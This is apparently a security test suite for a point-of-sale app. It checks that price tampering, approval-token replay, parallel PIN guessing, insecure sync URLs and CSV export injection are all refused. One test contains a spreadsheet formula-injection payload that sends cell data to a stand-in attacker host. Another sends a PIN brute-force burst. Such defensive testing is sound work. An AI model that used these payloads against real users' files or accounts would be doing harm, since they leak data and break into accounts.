/**
 * Issue 15: attacks a user at the counter could make through the public contract (the same
 * handler table IPC and the browser host serve), each refused by main.
 */
import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { chmod, mkdir, mkdtemp, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type App, createApp } from '../../src/main/app';
import { getIssuer, listAudit } from '../../src/main/db';
import { createHost } from '../../src/main/host';
import { createMemoryLogger, systemClock } from '../../src/main/log';
import type { AppError } from '../../src/shared/result';
import { startFakeFactio } from '../fakes/factio';
import { createMemoryKeychain } from '../fakes/memoryKeychain';
import { aprobando } from './aprobar';

let dataDir: string;
let app: App;
const usuarios: Record<string, string> = {};
const PIN = { cajero: '1234', supervisor: '5678', administrador: '9012' } as const;

const llamar = (name: string, input: unknown) => app.call(name, input, 'interno');
const call = async <T = Record<string, unknown>>(name: string, input: unknown): Promise<T> => {
  const r = await llamar(name, input);
  if (!r.ok) throw new Error(`${name}: ${r.error.code} ${r.error.message}`);
  return r.value as T;
};
const callErr = async (name: string, input: unknown): Promise<AppError> => {
  const r = await llamar(name, input);
  if (r.ok) throw new Error(`${name} debió fallar: ${JSON.stringify(r.value).slice(0, 300)}`);
  return r.error;
};

type Producto = { id: string; precio: number; maxBp: number; description: string };
const producto = (inicio: string): Producto => {
  const p = app.db.sqlite
    .prepare(
      `SELECT id, unit_price_micro AS precio, max_discount_bp AS maxBp, description FROM product
       WHERE description LIKE ? AND active = 1 LIMIT 1`,
    )
    .get(`${inicio}%`) as Producto | undefined;
  if (p === undefined) throw new Error(`No hay «${inicio}»`);
  return p;
};
const cualquiera = (): Producto =>
  app.db.sqlite
    .prepare(
      `SELECT id, unit_price_micro AS precio, max_discount_bp AS maxBp, description FROM product
       WHERE unit = 'unidad' AND active = 1 ORDER BY unit_price_micro DESC LIMIT 1`,
    )
    .get() as Producto;

const ingresar = (rol: keyof typeof PIN) =>
  call('sesion.iniciar', { usuarioId: usuarios[rol], pin: PIN[rol] });

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'mostrador-seguridad-'));
  const created = await createApp({
    dataDir,
    demo: true,
    logger: createMemoryLogger(),
    clock: systemClock,
    keychain: createMemoryKeychain(),
  });
  if (!created.ok) throw new Error(created.error.message);
  app = created.value;
  for (const u of app.db.sqlite.prepare('SELECT id, rol FROM app_user').all() as {
    id: string;
    rol: string;
  }[]) {
    usuarios[u.rol] = u.id;
  }
});

afterAll(async () => {
  await app?.close();
  await rm(dataDir, { recursive: true, force: true });
});

describe('1 · los precios salen del catálogo de main', () => {
  beforeEach(async () => {
    await ingresar('cajero');
    const { turno } = await call<{ turno: unknown }>('caja.estado', {});
    if (turno === null) await call('caja.abrir', { fondoCentavos: 0 });
  });

  it('no vende diez unidades a $0.011 cuando el renderer manda ese precio', async () => {
    const p = cualquiera();
    const barato = 11_000;
    expect(p.precio).toBeGreaterThan(barato);
    const e = await callErr('ventas.cobrar', {
      ventaId: randomUUID(),
      comprador: null,
      lineas: [{ productoId: p.id, cantidad: '10', precioUnitarioMicros: barato }],
      pagos: [{ formaPago: '01', montoCentavos: 1 }],
    });
    expect(e.code).toBe('precio_distinto');
    expect(e.message).toContain('necesita la aprobación de un supervisor');
    // The preview says so too.
    const calculo = await call<{ avisos: { code: string }[] }>('ventas.calcular', {
      comprador: null,
      lineas: [{ productoId: p.id, cantidad: '10', precioUnitarioMicros: barato }],
      pagos: [],
    });
    expect(calculo.avisos.map((a) => a.code)).toContain('precio_distinto');
  });

  it('sin precio en la línea cobra el del catálogo; con el mismo precio, también', async () => {
    const p = cualquiera();
    for (const linea of [
      { productoId: p.id, cantidad: '2' },
      { productoId: p.id, cantidad: '2', precioUnitarioMicros: p.precio },
    ]) {
      const cobro = await call<{ documentoId: string; totales: { subtotalCentavos: number } }>(
        'ventas.cobrar',
        {
          ventaId: randomUUID(),
          comprador: null,
          lineas: [linea],
          pagos: [{ formaPago: '01', montoCentavos: 10_000_000 }],
        },
      );
      expect(cobro.totales.subtotalCentavos).toBe(Math.round((2 * p.precio) / 10_000));
      const fila = app.db.sqlite
        .prepare('SELECT precio_unitario_micro AS precio FROM document_line WHERE document_id = ?')
        .get(cobro.documentoId) as { precio: number };
      expect(fila.precio).toBe(p.precio);
    }
  });

  it('un descuento sobre el límite del producto se rechaza sin supervisor', async () => {
    const p = cualquiera();
    const valor = Math.round((p.precio * 1) / 10_000);
    const e = await callErr('ventas.cobrar', {
      ventaId: randomUUID(),
      comprador: null,
      lineas: [{ productoId: p.id, cantidad: '1', descuentoCentavos: valor - 1 }],
      pagos: [{ formaPago: '01', montoCentavos: 10_000_000 }],
    });
    expect(e.code).toBe('descuento_excede');
  });

  it('otro precio pasa con la aprobación de un supervisor para esa venta, una sola vez, y queda auditado', async () => {
    const p = cualquiera();
    const entrada = {
      ventaId: randomUUID(),
      comprador: null,
      lineas: [{ productoId: p.id, cantidad: '1', precioUnitarioMicros: 1_000_000 }],
      pagos: [{ formaPago: '01', montoCentavos: 10_000_000 }],
    };
    // A cashier cannot approve.
    const negado = await callErr('aprobaciones.solicitar', {
      usuarioId: usuarios.cajero,
      pin: PIN.cajero,
      accion: 'ventas.cobrar',
      entrada,
    });
    expect(negado.code).toBe('rol_insuficiente');
    const { token } = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.supervisor,
      pin: PIN.supervisor,
      accion: 'ventas.cobrar',
      entrada,
    });
    // Bound to the input: another cart with the same token is refused (and uses it up).
    const otro = await callErr('ventas.cobrar', {
      ...entrada,
      lineas: [{ productoId: p.id, cantidad: '5', precioUnitarioMicros: 1_000_000 }],
      aprobacion: { token },
    });
    expect(otro.code).toBe('aprobacion_no_coincide');
    const reusado = await callErr('ventas.cobrar', { ...entrada, aprobacion: { token } });
    expect(reusado.code).toBe('aprobacion_vencida');

    const segundo = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.supervisor,
      pin: PIN.supervisor,
      accion: 'ventas.cobrar',
      entrada,
    });
    const cobro = await call<{ totales: { subtotalCentavos: number } }>('ventas.cobrar', {
      ...entrada,
      aprobacion: { token: segundo.token },
    });
    expect(cobro.totales.subtotalCentavos).toBe(100);
    const auditoria = listAudit(app.db, { limit: 5 }).find(
      (a) => a.action === 'venta.excepcion_aprobada',
    );
    expect(auditoria).toMatchObject({
      userId: usuarios.supervisor,
      detail: {
        ventaId: entrada.ventaId,
        cajeroId: usuarios.cajero,
        excepciones: [
          { productoId: p.id, precioCatalogoMicros: p.precio, precioCobradoMicros: 1_000_000 },
        ],
      },
    });
    const again = await callErr('ventas.cobrar', {
      ...entrada,
      ventaId: randomUUID(),
      aprobacion: { token: segundo.token },
    });
    expect(again.code).toBe('aprobacion_vencida');
    expect(producto(p.description.slice(0, 10)).precio).toBe(p.precio);
  });
});

describe('9 · sin sesión no hay venta, nota de crédito ni movimiento de caja', () => {
  it('tras sesion.cerrar, ventas.cobrar, notasCredito.emitir y caja.movimiento se niegan', async () => {
    await ingresar('cajero');
    const { turno } = await call<{ turno: unknown }>('caja.estado', {});
    if (turno === null) await call('caja.abrir', { fondoCentavos: 0 });
    const p = cualquiera();
    const vendida = await call<{ documentoId: string }>('ventas.cobrar', {
      ventaId: randomUUID(),
      comprador: null,
      lineas: [{ productoId: p.id, cantidad: '1' }],
      pagos: [{ formaPago: '01', montoCentavos: 10_000_000 }],
    });
    await call('sesion.cerrar', {});
    const venta = await callErr('ventas.cobrar', {
      ventaId: randomUUID(),
      comprador: null,
      lineas: [{ productoId: p.id, cantidad: '1' }],
      pagos: [{ formaPago: '01', montoCentavos: 10_000_000 }],
    });
    expect(venta.code).toBe('sin_sesion');
    const devolucion = {
      notaId: randomUUID(),
      facturaId: vendida.documentoId,
      motivo: 'Devolución de prueba',
      lineas: [{ linea: 1, cantidad: '1' }],
      reembolso: '01',
    };
    const { token } = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.supervisor,
      pin: PIN.supervisor,
      accion: 'notasCredito.emitir',
      entrada: devolucion,
    });
    const nota = await callErr('notasCredito.emitir', { ...devolucion, autorizacion: { token } });
    expect(nota.code).toBe('sin_sesion');
    const movimiento = await callErr('caja.movimiento', {
      tipo: 'entrada',
      montoCentavos: 100,
      motivo: 'Cambio',
    });
    expect(movimiento.code).toBe('sin_sesion');
  });

  it('con sesión pero sin turno abierto, no se vende', async () => {
    await ingresar('cajero');
    const { turno } = await call<{ turno: { id: string } | null }>('caja.estado', {});
    if (turno !== null) {
      // Closing with nothing counted is a difference beyond the tolerance: a supervisor approves.
      const r = await aprobando(llamar)('caja.cerrar', {
        conteo: {},
        aunConPendientes: true,
        autorizacion: { usuarioId: usuarios.supervisor, pin: PIN.supervisor },
      });
      if (!r.ok) throw new Error(`caja.cerrar: ${r.error.code} ${r.error.message}`);
    }
    const p = cualquiera();
    const e = await callErr('ventas.cobrar', {
      ventaId: randomUUID(),
      comprador: null,
      lineas: [{ productoId: p.id, cantidad: '1' }],
      pagos: [{ formaPago: '01', montoCentavos: 10_000_000 }],
    });
    expect(e.code).toBe('sin_turno');
    expect(e.message).toContain('turno');
  });
});

describe('3 · el bloqueo de PIN resiste intentos en paralelo y reinicios', () => {
  it('200 PIN enviados a la vez: se evalúan 5, el correcto se niega y el bloqueo sigue tras reiniciar', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mostrador-pin-'));
    let t = Date.parse('2026-12-02T15:00:00.000Z');
    const clock = { now: () => new Date(t) };
    const abrir = async () => {
      const created = await createApp({
        dataDir: dir,
        demo: true,
        logger: createMemoryLogger(),
        clock,
        keychain: createMemoryKeychain(),
      });
      if (!created.ok) throw new Error(created.error.message);
      return created.value;
    };
    let otra = await abrir();
    try {
      const supervisor = (
        otra.db.sqlite.prepare("SELECT id FROM app_user WHERE rol = 'supervisor'").get() as {
          id: string;
        }
      ).id;
      const pines = Array.from({ length: 200 }, (_, i) => String(i).padStart(4, '0'));
      pines.splice(100, 0, PIN.supervisor);
      const respuestas = await Promise.all(
        pines.map((pin) => otra.call('sesion.iniciar', { usuarioId: supervisor, pin }, 'http')),
      );
      expect(respuestas.filter((r) => r.ok)).toHaveLength(0);
      const evaluados = listAudit(otra.db, { limit: 1000 }).filter(
        (a) =>
          a.userId === supervisor &&
          (a.action === 'sesion.pin_incorrecto' || a.action === 'sesion.pin_bloqueado'),
      );
      expect(evaluados).toHaveLength(5);

      await otra.close();
      otra = await abrir();
      const tras = await otra.call(
        'sesion.iniciar',
        { usuarioId: supervisor, pin: PIN.supervisor },
        'http',
      );
      expect(!tras.ok && tras.error.code).toBe('pin_bloqueado');
      t += 60_001;
      const despues = await otra.call(
        'sesion.iniciar',
        { usuarioId: supervisor, pin: PIN.supervisor },
        'http',
      );
      expect(despues.ok).toBe(true);
    } finally {
      await otra.close();
      await rm(dir, { recursive: true, force: true });
    }
  }, 60_000);
});

describe('4 · las aprobaciones son de un solo uso y van atadas a la operación', () => {
  const retiro = { tipo: 'salida', montoCentavos: 100, motivo: 'Depósito en el banco' } as const;

  beforeEach(async () => {
    await ingresar('cajero');
    const { turno } = await call<{ turno: unknown }>('caja.estado', {});
    if (turno === null) await call('caja.abrir', { fondoCentavos: 10_000 });
  });

  it('el PIN del supervisor ya no viaja con la operación: repetir la llamada no sirve', async () => {
    const conPin = await callErr('caja.movimiento', {
      ...retiro,
      autorizacion: { usuarioId: usuarios.supervisor, pin: PIN.supervisor },
    });
    expect(conPin.code).toBe('aprobacion_con_pin');
    expect(conPin.message).toContain('PIN');

    const { token } = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.supervisor,
      pin: PIN.supervisor,
      accion: 'caja.movimiento',
      entrada: retiro,
    });
    const hecho = await call<{ movimientos: unknown[] }>('caja.movimiento', {
      ...retiro,
      autorizacion: { token },
    });
    expect(hecho.movimientos.length).toBeGreaterThan(0);
    // Replaying the captured request withdraws nothing more.
    const repetido = await callErr('caja.movimiento', { ...retiro, autorizacion: { token } });
    expect(repetido.code).toBe('aprobacion_vencida');
  });

  it('una aprobación para $1 no retira $500, ni sirve para otra operación', async () => {
    const { token } = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.supervisor,
      pin: PIN.supervisor,
      accion: 'caja.movimiento',
      entrada: retiro,
    });
    const mas = await callErr('caja.movimiento', {
      ...retiro,
      montoCentavos: 50_000,
      autorizacion: { token },
    });
    expect(mas.code).toBe('aprobacion_no_coincide');
    const otro = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.supervisor,
      pin: PIN.supervisor,
      accion: 'caja.movimiento',
      entrada: retiro,
    });
    const otraAccion = await callErr('respaldos.elegirCarpeta', {
      carpeta: dataDir,
      autorizacion: { token: otro.token },
    });
    expect(otraAccion.code).toBe('aprobacion_no_coincide');
  });
});

describe('2 · la sincronización con Factio la configura un administrador, solo por https', () => {
  it('un cajero no apunta la sincronización a otro servidor ni cambia la clave', async () => {
    await ingresar('cajero');
    const http = await callErr('factio.configurar', {
      ambiente: 'sandbox',
      url: 'http://factio.atacante.example/',
    });
    expect(http.code).toBe('url_insegura');
    const sinAprobacion = await callErr('factio.configurar', {
      ambiente: 'sandbox',
      url: 'https://factio.atacante.example/',
    });
    expect(sinAprobacion.code).toBe('autorizacion_requerida');
    expect((await callErr('factio.guardarClave', { clave: 'clave-robada-123' })).code).toBe(
      'autorizacion_requerida',
    );
    expect((await callErr('factio.eliminarClave', { confirmar: true })).code).toBe(
      'autorizacion_requerida',
    );
    const supervisor = await callErr('aprobaciones.solicitar', {
      usuarioId: usuarios.supervisor,
      pin: PIN.supervisor,
      accion: 'factio.configurar',
      entrada: { ambiente: 'sandbox', url: 'https://factio.atacante.example/' },
    });
    expect(supervisor.code).toBe('rol_insuficiente');
  });

  it('un administrador lo cambia con su aprobación y queda auditado; http solo a 127.0.0.1 en capacitación', async () => {
    const entrada = { ambiente: 'sandbox', url: 'https://factio.tienda.example/' };
    const { token } = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.administrador,
      pin: PIN.administrador,
      accion: 'factio.configurar',
      entrada,
    });
    const estado = await call<{ url: string }>('factio.configurar', {
      ...entrada,
      autorizacion: { token },
    });
    expect(estado.url).toMatch(/^https:\/\/factio\.tienda\.example\/?$/);
    expect(
      listAudit(app.db, { limit: 5 }).find((a) => a.action === 'factio.configurado'),
    ).toMatchObject({
      userId: usuarios.administrador,
      detail: { despues: { ambiente: 'sandbox', servidor: 'https://factio.tienda.example' } },
    });
    const local = { ambiente: 'sandbox', url: 'http://127.0.0.1:9/' };
    const otro = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.administrador,
      pin: PIN.administrador,
      accion: 'factio.configurar',
      entrada: local,
    });
    expect(
      (await llamar('factio.configurar', { ...local, autorizacion: { token: otro.token } })).ok,
    ).toBe(true);
  });
});

describe('2 · una sincronización no cambia el emisor ni el ambiente', () => {
  it('lo distinto que envía Factio espera a que un administrador lo acepte; el ambiente nunca', async () => {
    const KEY = 'fx_live_seguridad_0123456789';
    const fake = await startFakeFactio({ apiKeys: [KEY] });
    try {
      const emisor = getIssuer(app.db);
      if (emisor === undefined) throw new Error('sin emisor');
      fake.put('issuers', {
        ruc: emisor.ruc,
        legal_name: 'Otra Razón Social S.A.',
        trade_name: emisor.nombreComercial,
        main_address: emisor.direccionMatriz,
        accounting_required: emisor.obligadoContabilidad,
        environment: emisor.ambiente === '1' ? '2' : '1',
      });
      const aprobada = aprobando((n, i) => llamar(n, i));
      const admin = { usuarioId: usuarios.administrador, pin: PIN.administrador };
      for (const [name, input] of [
        ['factio.configurar', { ambiente: 'sandbox', url: fake.url, autorizacion: admin }],
        ['factio.guardarClave', { clave: KEY, autorizacion: admin }],
      ] as const) {
        const r = await aprobada(name, input);
        if (!r.ok) throw new Error(r.error.message);
      }
      await call('factio.sincronizar', {});
      const limite = Date.now() + 20_000;
      let cambio: { campos: { campo: string; despues: unknown }[] } | null = null;
      while (cambio === null && Date.now() < limite) {
        cambio = await call('factio.cambioEmisor', {});
        if (cambio === null) await new Promise((r) => setTimeout(r, 100));
      }
      expect(cambio?.campos).toEqual([
        expect.objectContaining({ campo: 'razonSocial', despues: 'Otra Razón Social S.A.' }),
      ]);
      expect(getIssuer(app.db)).toMatchObject({
        razonSocial: emisor.razonSocial,
        ambiente: emisor.ambiente,
      });
      // A cashier cannot accept it.
      expect((await callErr('factio.aceptarCambioEmisor', {})).code).toBe('autorizacion_requerida');
      const aceptado = await aprobada('factio.aceptarCambioEmisor', { autorizacion: admin });
      expect(aceptado.ok).toBe(true);
      expect(getIssuer(app.db)).toMatchObject({
        razonSocial: 'Otra Razón Social S.A.',
        ambiente: emisor.ambiente,
      });
      expect(
        listAudit(app.db, { limit: 10 }).find((a) => a.action === 'ajustes.cambio_emisor_aceptado'),
      ).toMatchObject({ userId: usuarios.administrador });
    } finally {
      await llamar('factio.eliminarClave', { confirmar: true }).catch(() => null);
      await fake.close();
    }
  }, 60_000);
});

describe.skipIf(process.platform === 'win32')('5 · la carpeta de datos es solo del usuario', () => {
  it('0700 la carpeta, 0600 la base y los respaldos, aun si una versión anterior los dejó legibles', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'mostrador-permisos-'));
    const datos = join(dir, 'datos');
    await mkdir(join(datos, 'logs'), { recursive: true, mode: 0o755 });
    await writeFile(join(datos, 'logs', 'viejo.log'), 'x', { mode: 0o644 });
    await chmod(datos, 0o755);
    const created = await createApp({
      dataDir: datos,
      demo: true,
      logger: createMemoryLogger(),
      clock: systemClock,
      keychain: createMemoryKeychain(),
    });
    if (!created.ok) throw new Error(created.error.message);
    try {
      const respaldo = await created.value.call('respaldos.tomar', {}, 'interno');
      if (!respaldo.ok) throw new Error(respaldo.error.message);
      const modo = async (ruta: string) => (await stat(ruta)).mode & 0o777;
      expect(await modo(datos)).toBe(0o700);
      expect(await modo(join(datos, 'mostrador.sqlite'))).toBe(0o600);
      expect(await modo(join(datos, 'logs', 'viejo.log'))).toBe(0o600);
      expect(await modo((respaldo.value as { ruta: string }).ruta)).toBe(0o600);
    } finally {
      await created.value.close();
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('10 · los CSV no llevan fórmulas', () => {
  it('un comprador llamado «=HYPERLINK(…)» llega inerte al indice.csv del archivo y al CSV de Conciliación', async () => {
    await ingresar('cajero');
    const { turno } = await call<{ turno: unknown }>('caja.estado', {});
    if (turno === null) await call('caja.abrir', { fondoCentavos: 0 });
    const malicioso = '=HYPERLINK("http://atacante.example/?d="&A1;"Ver factura")';
    const p = cualquiera();
    const cobro = await call<{ documentoId: string }>('ventas.cobrar', {
      ventaId: randomUUID(),
      comprador: { tipoIdentificacion: '05', identificacion: '0923456784', razonSocial: malicioso },
      lineas: [{ productoId: p.id, cantidad: '1' }],
      pagos: [{ formaPago: '01', montoCentavos: 10_000_000 }],
    });
    const limite = Date.now() + 20_000;
    let estado = '';
    let fecha = '';
    while (estado !== 'AUTHORIZED' && Date.now() < limite) {
      const d = await call<{ estado: string; fechaEmision: string }>('documentos.obtener', {
        id: cobro.documentoId,
      });
      estado = d.estado;
      fecha = d.fechaEmision;
      if (estado !== 'AUTHORIZED') await new Promise((r) => setTimeout(r, 100));
    }
    expect(estado).toBe('AUTHORIZED');
    const dia = /^\d{4}-\d{2}-\d{2}$/.test(fecha) ? fecha : fecha.split('/').reverse().join('-');
    const exportado = await call<{ contenidoBase64: string }>('archivo.exportar', {
      desde: dia,
      hasta: dia,
      descargar: true,
    });
    const zip = join(dataDir, 'archivo-prueba.zip');
    await writeFile(zip, Buffer.from(exportado.contenidoBase64, 'base64'));
    const indice = execFileSync('unzip', ['-p', zip, 'indice.csv'], { encoding: 'utf8' });
    expect(indice).toContain("'=HYPERLINK(");
    const celdas = indice.split(/\r\n/).flatMap((l) => l.split(','));
    expect(celdas.filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);

    const csv = await call<{ contenido: string }>('conciliacion.exportarCsv', {
      filtro: { desde: dia, hasta: dia },
    });
    expect(csv.contenido).toContain("'=HYPERLINK(");
  });
});

describe('11 · el token del host no queda en el historial', () => {
  it('la primera dirección cambia el token por una cookie HttpOnly SameSite=Strict y redirige sin él', async () => {
    const estaticos = join(dataDir, 'renderer-prueba');
    await mkdir(estaticos, { recursive: true });
    await writeFile(join(estaticos, 'index.html'), '<!doctype html><title>Mostrador</title>');
    const host = await createHost({ app, staticDir: estaticos, logger: createMemoryLogger() });
    if (!host.ok) throw new Error(host.error.message);
    try {
      const primera = await fetch(host.value.url, { redirect: 'manual' });
      expect(primera.status).toBe(303);
      const destino = primera.headers.get('location') ?? '';
      expect(destino).not.toContain('token');
      const cookie = primera.headers.get('set-cookie') ?? '';
      expect(cookie).toMatch(/^mostrador_token=[^;]+; HttpOnly; SameSite=Strict; Path=\//);
      const origen = new URL(host.value.url).origin;
      const estado = await fetch(`${origen}/api/call/app.estado`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', Cookie: cookie.split(';')[0] ?? '' },
        body: '{}',
      });
      expect(estado.status).toBe(200);
      expect(((await estado.json()) as { ok: boolean }).ok).toBe(true);
      const sin = await fetch(`${origen}/api/call/app.estado`, { method: 'POST', body: '{}' });
      expect(sin.status).toBe(401);
    } finally {
      await host.value.close();
    }
  });
});

describe('7 · el canal de actualizaciones es https', () => {
  it('un administrador no puede apuntarlo a http://', async () => {
    const entrada = { url: 'http://actualizaciones.atacante.example/' };
    const { token } = await call<{ token: string }>('aprobaciones.solicitar', {
      usuarioId: usuarios.administrador,
      pin: PIN.administrador,
      accion: 'actualizaciones.configurar',
      entrada,
    });
    const e = await callErr('actualizaciones.configurar', { ...entrada, autorizacion: { token } });
    expect(e.code).toBe('url_insegura');
  });
});

describe('12 · deshacer una decisión pide la misma aprobación', () => {
  it('un cajero no cancela la restauración que preparó un administrador', async () => {
    await ingresar('cajero');
    const e = await callErr('respaldos.cancelarRestauracion', {});
    expect(e.code).toBe('autorizacion_requerida');
  });
});
